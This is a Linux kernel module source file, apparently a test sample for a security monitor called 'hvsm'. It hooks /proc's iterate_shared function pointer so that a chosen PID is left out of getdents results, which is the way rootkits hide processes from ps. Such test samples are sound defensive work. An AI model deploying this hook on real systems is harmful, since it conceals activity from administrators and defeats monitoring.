// SPDX-License-Identifier: GPL-2.0
/*
 * Leave the process PID out of what getdents(2) says of /proc, as rootkits do that hide processes
 * from ps(1). Nothing else changes: it is on every list, and /proc/PID can be opened.
 */
#include <linux/atomic.h>
#include <linux/delay.h>
#include <linux/fs.h>
#include <linux/version.h>

#include "lab.h"

static int pid;
module_param(pid, int, 0444);
MODULE_PARM_DESC(pid, "the process, by its number in the first PID namespace");

static int (*original)(struct file *file, struct dir_context *ctx);
static void *slot;		/* where the pointer to it stands */
static char number[16];
static atomic_t inside;		/* who is in our function, or will return to it */

struct filter {
	struct dir_context ctx;
	struct dir_context *to;
};

static bool is_hidden(const char *name, int len)
{
	return len == (int)strlen(number) && !memcmp(name, number, len);
}

#if LINUX_VERSION_CODE < KERNEL_VERSION(6, 1, 0)
#define GO_ON 0
static int pass(struct dir_context *ctx, const char *name, int len, loff_t at, u64 ino, unsigned type)
#else
#define GO_ON true
static bool pass(struct dir_context *ctx, const char *name, int len, loff_t at, u64 ino, unsigned type)
#endif
{
	struct filter *filter = container_of(ctx, struct filter, ctx);

	if (is_hidden(name, len))
		return GO_ON;
	return filter->to->actor(filter->to, name, len, at, ino, type);
}

static int iterate(struct file *file, struct dir_context *ctx)
{
	struct filter filter = { .ctx = { .actor = pass, .pos = ctx->pos }, .to = ctx };
	int r;

	atomic_inc(&inside);
	r = original(file, &filter.ctx);
	ctx->pos = filter.ctx.pos;
	atomic_dec(&inside);
	return r;
}

static int __init filter_init(void)
{
	struct file *file;
	int r = lab_init();

	if (r)
		return r;
	snprintf(number, sizeof(number), "%d", pid);
	file = filp_open("/proc", O_RDONLY | O_DIRECTORY, 0);
	if (IS_ERR(file))
		return PTR_ERR(file);
	slot = (void *)&file_inode(file)->i_fop->iterate_shared;
	original = *(typeof(original) *)slot;
	filp_close(file, NULL);
	return original ? lab_poke(slot, &(void *){ iterate }, sizeof(void *)) : -ENOENT;
}

static void __exit filter_exit(void)
{
	if (lab_poke(slot, &(void *){ original }, sizeof(void *)))
		pr_err("filter_proc: what was hooked stays so\n");
	while (atomic_read(&inside))
		msleep(10);
	lab_drain();
}

module_init(filter_init);
module_exit(filter_exit);
MODULE_LICENSE("GPL");
MODULE_DESCRIPTION("hvsm test: process left out of /proc");
